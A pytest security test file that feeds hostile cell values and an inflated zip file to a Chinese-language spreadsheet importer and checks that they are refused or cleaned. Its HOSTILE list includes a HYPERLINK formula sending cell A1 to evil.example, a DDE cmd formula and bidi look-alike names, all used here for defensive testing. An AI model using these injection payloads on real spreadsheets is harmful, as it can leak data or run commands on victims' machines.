"""Hostile cell values in every column of the annex, and inflated files.

Each case imports a one-project workbook with one cell replaced (or a name
with the value typed inside it), into a database that already knows the
unit, person and vice-mayor of the row. The importer must either refuse with
a Chinese message naming the row (and the column, or the name to decide),
leaving the database as it was, or import with every invisible character
gone, so that no look-alike name is ever made. It must never raise.
"""

from __future__ import annotations

import datetime as dt
import io
import random
import re
import zipfile

import openpyxl
import pytest
import xlwt

from common.text import strip_invisible
from projects.models import Indicator, Milestone, Project, SubItem
from projects.services.targets import targets_import
from responsibility.models import Person, Unit, ViceMayor
from tests.projects.import_support import HEADER, simple
from tests.security.bounded import is_chinese
from tests.security.hostile import TEXT

pytestmark = pytest.mark.django_db

BASE = [1, "实施名牌战略", "争创名牌", "措施", "争创中国名牌", "质监局", "王磊", "李强", "年底", "合格率", 95, "%"]  # fmt: skip
NAME_COLUMNS = ("责任单位", "责任人", "分管市长")
COLUMNS = (
    "项目名称",
    "任务目标",
    "小项",
    *NAME_COLUMNS,
    "完成时限",
    "考核指标",
    "目标值",
    "计量单位",
)

HOSTILE: list[tuple[str, object]] = [
    *TEXT,
    ("bel", "\x07"),
    ("bel inside", "推进\x07中"),
    ("excel escaped bel", "_x0007_"),
    ("excel escaped nul", "推进_x0000_中"),
    ("soft hyphen", "\u00ad"),
    ("lrm", "\u200e"),
    ("rlo look-alike", "\u202e局监质"),
    ("formula hyperlink", '=HYPERLINK("http://evil.example/?"&A1,"点击查看")'),
    ("formula dde", "=cmd|' /C calc'!A0"),
    ("formula plus", "+1+1"),
    ("formula at", "@SUM(1,2)"),
    ("date text", "2011-05-31"),
    ("datetime text", "2011-05-31 00:00:00"),
    ("datetime", dt.datetime(2011, 5, 31)),
    ("date with time", dt.datetime(2011, 5, 31, 13, 45)),
    ("number", 2011),
    ("float", 1e300),
    ("very long", "质" * 5000),
    ("long line", "a" * 32767),
]

# Characters an .xlsx cannot hold: Excel writes them as _xHHHH_, and so do we.
_XML_ILLEGAL = re.compile("[\x00-\x08\x0b\x0c\x0e-\x1f\ufffe\uffff]")


def _excel_escaped(value: object) -> object:
    if isinstance(value, str):
        return _XML_ILLEGAL.sub(lambda m: f"_x{ord(m[0]):04X}_", value)
    return value


def _xls(cells: list) -> bytes:
    book = xlwt.Workbook()
    ws = book.add_sheet("附件")
    date_style = xlwt.easyxf(num_format_str="YYYY-MM-DD hh:mm")
    for c, name in enumerate(HEADER):
        ws.write(0, c, name)
    for c, value in enumerate(cells):
        if isinstance(value, dt.datetime):
            ws.write(1, c, value, date_style)
        elif value is not None:
            ws.write(1, c, value)
    out = io.BytesIO()
    book.save(out)
    return out.getvalue()


@pytest.fixture
def known(db):
    unit = Unit.objects.create(name="质监局", full_name="诸城市质量技术监督局")
    Person.objects.create(name="王磊", unit=unit)
    ViceMayor.objects.create(name="李强")


def state() -> dict:
    return {
        "units": sorted(Unit.objects.values_list("name", "full_name")),
        "persons": sorted(Person.objects.values_list("name", "title", "unit__name")),
        "mayors": sorted(ViceMayor.objects.values_list("name", "title")),
        "projects": sorted(Project.objects.values_list("name", "target", "measures", "guarantees")),
        "subitems": sorted(SubItem.objects.values_list("name", "description")),
        "milestones": sorted(Milestone.objects.values_list("name", flat=True)),
        "indicators": sorted(Indicator.objects.values_list("name", "measure")),
    }


def _texts(snapshot: dict) -> list[str]:
    found = []
    for rows in snapshot.values():
        for row in rows:
            found.extend(
                v for v in (row if isinstance(row, tuple) else (row,)) if isinstance(v, str)
            )
    return found


def check(data: bytes, column: str | None) -> None:
    """Import ``data``: refused cleanly with nothing written, or written clean."""
    before = state()
    result = targets_import(file=data, year=2012)
    errors = result.errors
    after = state()
    if errors:
        assert after == before
        for error in errors:
            assert is_chinese(error.message), error
            assert "写入数据库时出错" not in error.message, error
            if column is None:
                continue
            assert error.row == 2, error
            # The cell's own column, or a name to decide (it names the row).
            assert error.column or error.name_key, error
        return
    for text in _texts(after):
        assert strip_invisible(text) == text, repr(text)
    # No look-alike of a known name: the row's names are the known ones or new visible ones.
    assert [u for u, _full in after["units"]].count("质监局") == 1
    assert Project.objects.count() == 1


# Every value alone in every column, and text typed inside the names.
FUZZ = [
    pytest.param(value, column, "alone", id=f"{label}-{column}-alone")
    for label, value in HOSTILE
    for column in COLUMNS
] + [
    pytest.param(value, column, "inside", id=f"{label}-{column}-inside")
    for label, value in HOSTILE
    if isinstance(value, str)
    for column in ("项目名称", *NAME_COLUMNS)
]


@pytest.mark.parametrize(("value", "column", "placement"), FUZZ)
def test_hostile_cell_in_xlsx(known, value, column, placement):
    cells = list(BASE)
    i = HEADER.index(column)
    cells[i] = cells[i][:1] + value + cells[i][1:] if placement == "inside" else value
    check(simple([[_excel_escaped(v) for v in cells]]), column)


RAW = [(label, value) for label, value in HOSTILE if isinstance(value, str) and len(value) < 1000]


@pytest.mark.parametrize("column", COLUMNS)
@pytest.mark.parametrize(("label", "value"), RAW, ids=[label for label, _v in RAW])
def test_hostile_text_inside_a_cell_of_a_legacy_xls(known, label, value, column):
    """BIFF (.xls) keeps NUL and every control character as typed."""
    cells = list(BASE)
    i = HEADER.index(column)
    cells[i] = cells[i][:1] + value + cells[i][1:] if isinstance(cells[i], str) else value
    check(_xls(cells), column)


@pytest.mark.parametrize("typed", ["质\u200b监局", "\ufeff质监局", "质监局\u2060", "质\u00ad监局"])
def test_look_alike_unit_is_the_known_unit(known, typed):
    cells = list(BASE)
    cells[HEADER.index("责任单位")] = typed
    result = targets_import(file=simple([cells]), year=2012)
    assert [str(e) for e in result.errors] == []
    assert list(Unit.objects.responsible().values_list("name", flat=True)) == ["质监局"]


@pytest.mark.parametrize("typed", ["\u202e局监质", "质\u2066监\u2069局", "\u200f质监局"])
def test_bidi_look_alike_unit_is_refused(known, typed):
    cells = list(BASE)
    cells[HEADER.index("责任单位")] = typed
    before = state()
    result = targets_import(file=simple([cells]), year=2012, allow_new=True)
    assert [str(e) for e in result.errors] == [
        "第2行「责任单位」：名称中含有改变文字方向的控制字符（会让名称显示成另一个样子），请删除后重新输入"
    ]
    assert state() == before


# --- inflated files ------------------------------------------------------------------------


def _rezip(data: bytes, replace: dict[str, bytes]) -> bytes:
    source = zipfile.ZipFile(io.BytesIO(data))
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as target:
        for item in source.infolist():
            body = replace.get(item.filename, source.read(item.filename))
            target.writestr(item.filename, body, compress_type=zipfile.ZIP_DEFLATED)
    return out.getvalue()


def test_inflated_cell_text_is_refused_before_it_is_read(known):
    """A cell whose text is a few MB of one character: inflates 1000 to 1."""
    data = simple([BASE])
    book = zipfile.ZipFile(io.BytesIO(data))
    sheet = book.read("xl/worksheets/sheet1.xml").replace(
        "措施".encode(), ("措" * 3_000_000).encode()
    )
    before = state()
    result = targets_import(file=_rezip(data, {"xl/worksheets/sheet1.xml": sheet}), year=2012)
    assert [str(e) for e in result.errors] == [
        "文件解压后异常庞大（疑似“压缩炸弹”），已拒绝读取。请检查文件来源。"
    ]
    assert state() == before


def test_sheet_with_a_far_away_cell_and_huge_dimension_is_read(known):
    book = openpyxl.Workbook()
    ws = book.active
    ws.append(HEADER)
    ws.append(BASE)
    ws.cell(row=300_000, column=16_000, value=" ")
    out = io.BytesIO()
    book.save(out)
    result = targets_import(file=out.getvalue(), year=2012)
    assert [str(e) for e in result.errors] == []
    assert list(Project.objects.values_list("name", flat=True)) == ["实施名牌战略"]


def test_many_long_cells_are_read_without_error(known):
    """Long varied text (not one character repeated, which the zip-bomb check
    refuses) in many rows: about 5 MB of sheet XML."""
    rng = random.Random(15)
    rows = [list(BASE)]
    for n in range(2, 60):
        text = "".join(chr(rng.randrange(0x4E00, 0x9FA5)) for _ in range(30000))
        rows.append([n, f"项目{n}", text, None, f"小项{n}", "质监局", "王磊", "李强", "年底"])
    result = targets_import(file=simple(rows), year=2012)
    assert [str(e) for e in result.errors] == []
    assert Project.objects.count() == 59
